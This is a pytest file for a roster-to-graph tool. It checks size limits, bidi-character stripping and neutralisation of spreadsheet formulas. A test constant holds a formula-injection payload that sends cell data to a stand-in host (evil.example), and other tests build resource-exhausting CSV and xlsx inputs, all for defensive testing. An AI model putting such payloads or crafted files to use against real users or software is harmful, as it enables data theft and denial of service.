"""Issue 22, second half: bounded inputs, no live formulas or spoofing characters, and the smaller findings.

Each test reproduces one finding of the issue (see docs/reliability.md, sections 输入上限 / Bounded
inputs, 公式与伪装字符 / Formulas and spoofing, 其他 / Smaller) and checks what holds now.
"""
from __future__ import annotations

import io
import os
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pandas as pd
import pytest

import graphkit as gk
from graphkit.ingest._read import Limits, read_file
from graphkit.core.errors import LedgerError, ValidationFailed
from graphkit.core.settings import override

from corpus.cases import PAIR_F, PAIR_HEAD, PAIRS, ROSTER, ROSTER_F, ROSTER_HEAD, base

ROOT = Path(__file__).resolve().parents[1]


def _problems(exc: pytest.ExceptionInfo[ValidationFailed], rule: str) -> pd.DataFrame:
    df = exc.value.problems
    return df[df["rule"] == rule]


# --------------------------------------------------------------------------------------------
# 输入上限 / Bounded inputs


_MEASURE = """
import resource, time
from pathlib import Path
import graphkit as gk
from graphkit.core.errors import ValidationFailed
t = time.perf_counter()
try:
    gk.build_graph(Path("{folder}"))
except ValidationFailed as exc:
    print(exc.problems[exc.problems.rule == "file_too_large"].to_json(orient="records", force_ascii=False))
print(time.perf_counter() - t)
# VmHWM is this process's own peak: ru_maxrss would carry the pytest parent's peak across fork + exec
hwm = [ln for ln in Path("/proc/self/status").read_text().splitlines() if ln.startswith("VmHWM:")]
print(int(hwm[0].split()[1]) / 1024 if hwm else resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024)
"""


def test_csv_line_of_a_million_fields_is_refused_before_parsing(tmp_path: Path) -> None:
    """Finding: a 2 MB CSV line of 1,000,000 fields took 50 s and 2.4 GB. Now: refused in well under a second,
    naming the file, the line and the limit, without the memory growing."""
    base(tmp_path)
    (tmp_path / PAIR_F).write_text(",".join(PAIR_HEAD) + "\n" + ",".join(["x"] * 1_000_000) + "\n", encoding="utf-8")
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    done = subprocess.run([sys.executable, "-c", _MEASURE.format(folder=tmp_path)], env=env, capture_output=True,
                          text=True, timeout=120)
    assert done.returncode == 0, done.stderr[-2000:]
    rows, elapsed, peak = done.stdout.strip().splitlines()
    problems = pd.read_json(io.StringIO(rows))
    assert len(problems) == 1
    p = problems.iloc[0]
    assert p["file"] == PAIR_F and p["row"] == 2
    assert "16384" in p["message_zh"] and "16384" in p["message_en"] and "1000000" in p["message_en"]
    assert float(elapsed) < 10, elapsed       # was 50 s
    assert float(peak) < 600, peak            # MiB; was 2.4 GB


@pytest.mark.parametrize("limit,expect", [("max_columns", "GRAPHKIT_MAX_COLUMNS"), ("max_cells", "GRAPHKIT_MAX_CELLS")])
def test_csv_columns_and_cells_limits_are_settings(tmp_path: Path, limit: str, expect: str) -> None:
    """The per-sheet limits come from gk.config (GRAPHKIT_*), are checked before parsing, and name file, row and limit."""
    base(tmp_path)
    lines = [",".join(r) for r in [ROSTER_HEAD, *ROSTER]] + [",".join([ROSTER[2][0]] + ["x"] * 30)]
    (tmp_path / ROSTER_F).write_text("\n".join(lines) + "\n", encoding="utf-8")  # row 12 is 31 fields wide
    value = {"max_columns": 20, "max_cells": 100}[limit]
    with override(**{limit: value}):
        assert getattr(Limits(), limit) == value
        with pytest.raises(ValidationFailed) as exc:
            gk.build_graph(tmp_path)
    p = _problems(exc, "file_too_large")
    assert p["file"].tolist() == [ROSTER_F]
    msg = p["message_zh"].iat[0] + p["message_en"].iat[0]
    assert expect in msg and str(value) in msg
    if limit == "max_columns":
        assert p["row"].tolist() == [12] and "31 列" in msg
    # the default limits load the same folder (the wide row is a ragged CSV error, not a limit)
    with pytest.raises(ValidationFailed) as exc:
        gk.build_graph(tmp_path)
    assert _problems(exc, "file_too_large").empty


def test_quoted_separators_do_not_count_as_columns(tmp_path: Path) -> None:
    """A line with many commas inside quotes is one field: it is parsed exactly, not refused."""
    path = tmp_path / "x.csv"
    path.write_text('a,b\n1,"' + "，,".join("x" * 50) + '"\n', encoding="utf-8")
    sheet, = read_file(path, display="x.csv", limits=Limits(max_columns=5))
    assert sheet.cells.shape == (2, 2)


def _xlsx_with_far_cell(path: Path, ref: str = "XFD1048576") -> Path:
    """A 1 KB workbook with a cell at A1 and one at ``ref`` (its <dimension> lies: A1:B2)."""
    ct = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" '
          'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override '
          'PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
          'spreadsheetml.worksheet+xml"/></Types>')
    rels = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'officeDocument" Target="xl/workbook.xml"/></Relationships>')
    wb = ('<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
          'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="名册" '
          'sheetId="1" r:id="rId1"/></sheets></workbook>')
    wbr = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
           '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"'
           ' Target="worksheets/sheet1.xml"/></Relationships>')
    row = int("".join(ch for ch in ref if ch.isdigit()))
    sheet = ('<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
             '<dimension ref="A1:B2"/><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>党组织名称</t></is></c></row>'
             f'<row r="{row}"><c\tr="{ref}" t="inlineStr"><is><t>y</t></is></c></row></sheetData></worksheet>')
    with zipfile.ZipFile(path, "w") as z:
        for name, text in [("[Content_Types].xml", ct), ("_rels/.rels", rels), ("xl/workbook.xml", wb),
                           ("xl/_rels/workbook.xml.rels", wbr), ("xl/worksheets/sheet1.xml", sheet)]:
            z.writestr(name, text)
    return path


@pytest.mark.parametrize("ref,limit", [("XFD1048576", "max_columns"), ("ZZ900000", "max_cells")])
def test_xlsx_far_cell_is_refused_before_calamine_allocates(tmp_path: Path, ref: str, limit: str) -> None:
    """Found while bounding: a 1 KB .xlsx with cells at A1 and XFD1048576 made calamine ask for 550 GB and abort the
    process. The sheet XML is scanned for its extent first (its <dimension> lies here, and the attribute follows a
    tab): the file is refused with sheet, row and limit."""
    path = _xlsx_with_far_cell(tmp_path / "far.xlsx", ref)
    with pytest.raises(LedgerError) as exc:
        read_file(path, display="far.xlsx")
    msg = str(exc.value)
    assert exc.value.rule == "file_too_large" and exc.value.sheet == "名册"  # type: ignore[attr-defined]
    assert exc.value.row == int(ref.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ"))  # type: ignore[attr-defined]
    assert {"max_columns": "GRAPHKIT_MAX_COLUMNS", "max_cells": "GRAPHKIT_MAX_CELLS"}[limit] in msg


def test_xlsx_width_is_checked_and_formatting_only_cells_do_not_count(tmp_path: Path) -> None:
    """An honest wide workbook is refused beyond max_columns before it is read; an empty cell that only carries
    formatting far to the right (Excel counts it in <dimension>, calamine skips it) does not make a sheet wide."""
    import openpyxl
    from openpyxl.styles import Font

    frame = pd.DataFrame([["党组织名称", *[f"列{i}" for i in range(40)]], ["青泥洞村党支部", *range(40)]])
    path = tmp_path / "wide.xlsx"
    frame.to_excel(path, header=False, index=False)
    with pytest.raises(LedgerError) as exc:
        read_file(path, display="wide.xlsx", limits=Limits(max_columns=30))
    assert "41" in str(exc.value) and "30" in str(exc.value)
    sheet, = read_file(path, display="wide.xlsx", limits=Limits(max_columns=41))
    assert sheet.cells.shape == (2, 41)
    wb = openpyxl.Workbook()
    ws = wb.active
    ws["A1"], ws["A2"] = "党组织名称", "青泥洞村党支部"
    ws.cell(row=5, column=2000).font = Font(bold=True)
    styled = tmp_path / "styled.xlsx"
    wb.save(styled)
    assert b'<dimension ref="A1:BXX5"' in zipfile.ZipFile(styled).read("xl/worksheets/sheet1.xml")
    sheet, = read_file(styled, display="styled.xlsx")
    assert sheet.cells.shape == (2, 1)


def test_twenty_gigabyte_file_is_refused_by_its_size_without_hashing(tmp_path: Path) -> None:
    """Finding: a 20 GB file over the 512 MB limit was refused only after 45 s of hashing. Now its size is checked
    first and it is never read (a sparse file: no disk is used)."""
    base(tmp_path)
    huge = tmp_path / "结对共建台账2.csv"
    with huge.open("wb") as fh:
        fh.truncate(20 * 1024**3)
    t0 = time.perf_counter()
    with pytest.raises(ValidationFailed) as exc:
        gk.build_graph(tmp_path)
    elapsed = time.perf_counter() - t0
    p = _problems(exc, "file_too_large")
    assert p["file"].tolist() == [huge.name]
    assert "20480 MB" in p["message_zh"].iat[0] and "512 MB" in p["message_en"].iat[0]
    assert elapsed < 10, elapsed  # was 45 s
    graph = gk.build_graph(tmp_path, lenient=True)
    src = graph.sources.set_index("file").loc[huge.name]
    assert src["sha256"] == "" and int(src["bytes"]) == 20 * 1024**3


def test_nul_byte_in_one_cell_names_its_row_and_column(tmp_path: Path) -> None:
    """Finding: a NUL byte in one cell refused the whole roster as "not a text file" with no row. Now the problem
    names the row and column (the header too); binary garbage is still "not a text file"."""
    rows = [list(r) for r in ROSTER]
    rows[3][6] = "中池镇\x00党委"  # row 5, column G (上级党组织)
    base(tmp_path, roster=rows)
    with pytest.raises(ValidationFailed) as exc:
        gk.build_graph(tmp_path)
    p = _problems(exc, "unreadable_file")
    assert p[["file", "row", "column"]].values.tolist() == [[ROSTER_F, 5, "G"]]
    assert "上级党组织" in p["message_zh"].iat[0] and "NUL" in p["message_en"].iat[0]


def test_long_values_are_cut_in_messages(tmp_path: Path) -> None:
    """Finding: very long values were echoed whole in messages (66 KB for one name). Now every message quotes the
    first 80 characters and says how long the value was."""
    from graphkit.core.problems import clip

    long_name = "红" * 66_000 + "村党支部"
    pairs = [[long_name, *PAIRS[0][1:]], PAIRS[1]]
    base(tmp_path, pairs=pairs)
    with pytest.raises(ValidationFailed) as exc:
        gk.build_graph(tmp_path)
    df = exc.value.problems
    hit = df[df["rule"] == "unresolved_ref"]
    assert len(hit) == 1
    for col in ("value", "message_zh", "message_en"):
        assert len(hit[col].iat[0]) < 400, (col, len(hit[col].iat[0]))
    assert "共 66004 字" in hit["message_zh"].iat[0] and "66004 chars" in hit["message_en"].iat[0]
    assert clip("短名") == "短名" and clip("x" * 81).startswith("x" * 80 + "…")
    assert len(str(exc.value)) < 1000


# --------------------------------------------------------------------------------------------
# 公式与伪装字符 / Formulas and spoofing

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点此修正")党支部'
_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _formula_county(tmp_path: Path) -> Path:
    """A county whose one village branch is named as a live formula, and is paired (so it is in analyses)."""
    rows = [list(r) for r in ROSTER]
    rows[3][0] = EVIL  # the weak side of PAIRS[0]
    pairs = [[PAIRS[0][0], EVIL, *PAIRS[0][2:]], PAIRS[1]]
    data = tmp_path / "data"
    data.mkdir()
    base(data, roster=rows, pairs=pairs)
    return data


def _live_cells(values: list[object]) -> list[str]:
    """Cell texts a spreadsheet would run as a formula (not plain numbers such as -3)."""
    out = []
    for v in values:
        if isinstance(v, str) and v.startswith(_STARTS):
            try:
                float(v)
            except ValueError:
                out.append(v)
    return out


def test_no_live_formulas_in_files_for_spreadsheets(tmp_path: Path) -> None:
    """Finding: a name beginning with = was written raw in the analyze CSVs (BOM'd, opened by Excel), query --format
    csv, sparql -o *.csv / *.xlsx and the report workbook. Now each such cell starts with ' (text in Excel), in every
    one of them, while the name is still there and numbers stay numbers."""
    import openpyxl
    from click.testing import CliRunner

    from graphkit.cli import cli

    data = _formula_county(tmp_path)
    out = tmp_path / "out"
    run = CliRunner().invoke
    assert run(cli, ["build", str(data), "-o", str(out)]).exit_code == 0
    r = run(cli, ["analyze", str(out), "-q"])
    assert r.exit_code == 0, r.output
    seen = 0
    for csv_path in sorted((out / "analysis").glob("*.csv")):
        df = pd.read_csv(csv_path, dtype=str, keep_default_na=False, encoding="utf-8-sig")
        cells = df.to_numpy().ravel().tolist()
        assert _live_cells(cells) == [], csv_path.name
        seen += sum(1 for c in cells if "'" + EVIL in c)
    assert seen > 0  # the name did reach the analyses, quoted

    q = tmp_path / "orgs.csv"
    r = run(cli, ["query", str(out), "MATCH (o:Organization) RETURN o.name AS name, o.members AS members",
                  "--format", "csv", "-o", str(q)])
    assert r.exit_code == 0, r.output
    df = pd.read_csv(q, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert "'" + EVIL in df["name"].tolist() and _live_cells(df.to_numpy().ravel().tolist()) == []
    r = run(cli, ["query", str(out), "MATCH (o:Organization) RETURN o.name AS name", "--format", "csv"])
    assert "'" + EVIL in pd.read_csv(io.StringIO(r.output), dtype=str)["name"].tolist()

    for suffix in ("csv", "xlsx"):
        target = tmp_path / f"sparql.{suffix}"
        r = run(cli, ["sparql", str(out), "--name", "due_for_rotation", "-p", "as_of=2026-01-01", "-o", str(target)])
        assert r.exit_code == 0, r.output
        if suffix == "csv":
            df = pd.read_csv(target, dtype=str, keep_default_na=False, encoding="utf-8-sig")
            assert df["weak_name"].tolist() == ["'" + EVIL]
        else:
            ws = openpyxl.load_workbook(target).worksheets[0]
            cells = [c for row in ws.iter_rows() for c in row]
            assert all(c.data_type != "f" for c in cells)
            assert "'" + EVIL in [c.value for c in cells]
    report_xlsx = tmp_path / "report.xlsx"
    r = run(cli, ["report", str(out), "-o", str(tmp_path / "report.html"), "--xlsx", str(report_xlsx), "-q"])
    assert r.exit_code == 0, r.output
    wb = openpyxl.load_workbook(report_xlsx)
    quoted = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not _live_cells([cell.value]), (ws.title, cell.coordinate)
                    quoted += cell.value.startswith("'" + EVIL)
    assert quoted > 0


def test_excel_safe_frame_keeps_numbers_numbers() -> None:
    """-3 in a numeric column stays the number -3; text "-3" stays "-3"; only formula-like text is quoted."""
    from graphkit.core.problems import excel_safe_frame

    df = pd.DataFrame({"n": [-3, 4], "f": [-1.5, 2.0], "t": ["-3", "@foo"], "d": pd.to_datetime(["2024-01-01", None])})
    got = excel_safe_frame(df)
    assert got["n"].tolist() == [-3, 4] and got["n"].dtype == df["n"].dtype
    assert got["f"].tolist() == [-1.5, 2.0]
    assert got["t"].tolist() == ["-3", "'@foo"]
    assert got["d"].equals(df["d"])
    assert df["t"].tolist() == ["-3", "@foo"]  # the input is not changed


def test_bidi_controls_are_stripped_and_reported(tmp_path: Path) -> None:
    """Finding: bidirectional controls (U+202E …) passed into names, so a name could display as another. Now they are
    removed at load like zero-width characters, and each cell that had one is a warning naming file, row, column."""
    rows = [list(r) for r in ROSTER]
    rows[3][0] = "红岩村\u202e部支党\u202c"  # row 5: displays as 红岩村党支部 in a bidi-aware view
    rows[4][6] = "中池镇\u2066党委\u2069"        # row 6, 上级党组织: still resolves
    base(tmp_path, roster=rows, pairs=[])
    graph = gk.build_graph(tmp_path)
    names = graph.tables["Organization"]["name"].tolist()
    assert "红岩村部支党" in names
    assert not any(ch in n for n in names for ch in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c")
    warn = graph.problems[graph.problems["rule"] == "bidi_control"]
    assert set(warn["severity"]) == {"warning"}
    assert sorted(warn[["file", "row", "column"]].itertuples(index=False, name=None)) == [
        (ROSTER_F, 5, "党组织名称"), (ROSTER_F, 6, "上级党组织")]
    assert "<U+202E>" in warn.set_index("row").loc[5, "value"]
    orgs = graph.tables["Organization"].set_index("name")
    assert orgs.loc["金桥村党总支", "parent"] == orgs.loc["中池镇党委", "id"]


# --------------------------------------------------------------------------------------------
# 其他 / Smaller


@pytest.mark.parametrize("store", ["memory", "oxigraph"])
def test_jsonld_is_byte_identical_across_processes(tmp_path: Path, store: str) -> None:
    """Finding: JSON-LD output order differed between two exports of the same input (rdflib walks its graph in the
    order of Python's string hashes). Now two exports from processes with different hash seeds are byte-identical."""
    data = _formula_county(tmp_path)  # any county; this one has a hostile name too
    out = tmp_path / "out"
    from graphkit.store.io import write_graph

    write_graph(gk.build_graph(data), out)
    files = []
    for seed in ("1", "2"):
        target = tmp_path / f"g{seed}.jsonld"
        env = dict(os.environ, PYTHONPATH=str(ROOT), PYTHONHASHSEED=seed)
        done = subprocess.run([sys.executable, "-m", "graphkit.cli", "rdf", "export", str(out), "-f", "jsonld",
                               "--store", store, "-o", str(target)], env=env, capture_output=True, text=True,
                              timeout=300)
        assert done.returncode == 0, done.stderr[-2000:]
        files.append(target.read_bytes())
    assert files[0] == files[1]
    import json
    doc = json.loads(files[0])  # rdflib compacts with a context; pyoxigraph writes the expanded node list
    nodes = doc["@graph"] if isinstance(doc, dict) else doc
    assert len(nodes) > 10 and [n["@id"] for n in nodes] == sorted(n["@id"] for n in nodes)


def test_pack_parameters_are_checked_against_their_choices(tmp_path: Path) -> None:
    """Finding: `sparql --name coverage -p by=<garbage>` ran with the bad value ignored. Now both packs (SPARQL and
    Cypher) refuse a value outside the declared choices, listing them in Chinese and English."""
    from click.testing import CliRunner

    from graphkit.exports import sparql
    from graphkit.exports import queries
    from graphkit.cli import cli

    assert sparql.load_queries()["coverage"].params["by"].choices == ("town", "sector", "category", "level", "all")
    assert queries.get_query("coverage").params["by"].choices == ("town", "sector", "category", "level")
    data = tmp_path / "data"
    data.mkdir()
    base(data, pairs=PAIRS)
    out = tmp_path / "out"
    assert CliRunner().invoke(cli, ["build", str(data), "-o", str(out)]).exit_code == 0
    for cmd in (["sparql", str(out)], ["query", str(out)]):
        r = CliRunner().invoke(cli, [*cmd, "--name", "coverage", "-p", "by=garbage"])
        assert r.exit_code == 1, r.output
        assert "只能取" in r.output and "must be one of" in r.output and "town" in r.output and "garbage" in r.output
        assert "Traceback" not in r.output
        ok = CliRunner().invoke(cli, [*cmd, "--name", "coverage", "-p", "by=sector"])
        assert ok.exit_code == 0, ok.output
    with pytest.raises(sparql.SparqlError):
        sparql.run_query(gk.build_graph(data), "coverage", params={"by": "towns"})


@pytest.mark.parametrize("entry,expect", [
    ("../elsewhere.yaml", "outside"),
    ("nope.yaml", "does not exist"),
    ("党组织名册.csv", "not a mapping file"),
    ("notes.yaml", "not a ledger mapping"),
    ("layouts_empty", "without mapping files"),
])
def test_graphkit_yaml_mapping_entries_are_checked(tmp_path: Path, entry: str, expect: str) -> None:
    """Finding: graphkit.yaml `mappings:` entries outside DATA_DIR, at missing paths or at non-mapping files were
    accepted or misread. Now each is refused with a message naming the entry."""
    data = tmp_path / "data"
    data.mkdir()
    base(data)
    (tmp_path / "elsewhere.yaml").write_text((ROOT / "loaders" / "roster.yaml").read_text(encoding="utf-8"),
                                             encoding="utf-8")
    (data / "notes.yaml").write_text("- 一条备注\n- another\n", encoding="utf-8")
    (data / "layouts_empty").mkdir()
    (data / "graphkit.yaml").write_text(f"county: 测试县\nmappings: [{entry!r}]\n", encoding="utf-8")
    with pytest.raises(gk.GraphkitError) as exc:
        gk.build_graph(data)
    msg = str(exc.value)
    assert entry in msg and expect in msg and "graphkit.yaml" in msg
    # a mapping inside the folder is accepted
    (data / "mine.yaml").write_text((ROOT / "loaders" / "roster.yaml").read_text(encoding="utf-8"), encoding="utf-8")
    (data / "graphkit.yaml").write_text("county: 测试县\nmappings: [mine.yaml]\n", encoding="utf-8")
    assert gk.build_graph(data).count("Organization") == len(ROSTER)


def test_password_help_says_how_to_keep_it_out_of_the_process_list() -> None:
    """Finding: the --password help did not say that the command line is visible to other users."""
    from click.testing import CliRunner

    from graphkit.cli import cli

    text = " ".join(CliRunner().invoke(cli, ["neo4j", "push", "--help"]).output.split())
    assert "NEO4J_PASSWORD" in text and "ps" in text and "prompt" in text and "进程列表" in text
